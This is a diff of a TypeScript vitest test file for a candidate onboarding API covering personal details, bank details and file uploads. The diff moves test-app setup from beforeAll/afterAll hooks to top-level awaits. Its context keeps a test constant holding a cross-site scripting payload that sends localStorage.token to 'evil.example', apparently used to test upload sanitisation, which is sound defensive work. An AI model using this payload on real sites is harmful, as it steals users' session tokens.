@@ -1,4 +1,4 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import {
   getCandidateBankDetails,
   getCandidatePersonalDetails,
@@ -9,16 +9,11 @@ import {
   type PersonalDetails,
 } from '#contract/joining.ts';
 import { acceptedCandidate, bankForm, personalForm, sendForm, storedFiles, testFile } from '#test/joining-requests.ts';
-import { startTestApp, type TestApp } from '#test/test-app.ts';
+import { openTestApp } from '#test/test-app.ts';
 import { jpegFrame, jpegSegment, madeJpeg, madePng, pngChunk } from '#test/made-files.ts';
 
-let t: TestApp;
-let token: string;
-beforeAll(async () => {
-  t = await startTestApp();
-  ({ token } = await acceptedCandidate(t));
-});
-afterAll(() => t.close());
+const t = await openTestApp();
+const { token } = await acceptedCandidate(t);
 
 const script = '<script>fetch("//evil.example/"+localStorage.token)</script>';
 const pdf = (text = '') => Buffer.from(`%PDF-1.7\n${text}\n%%EOF`);
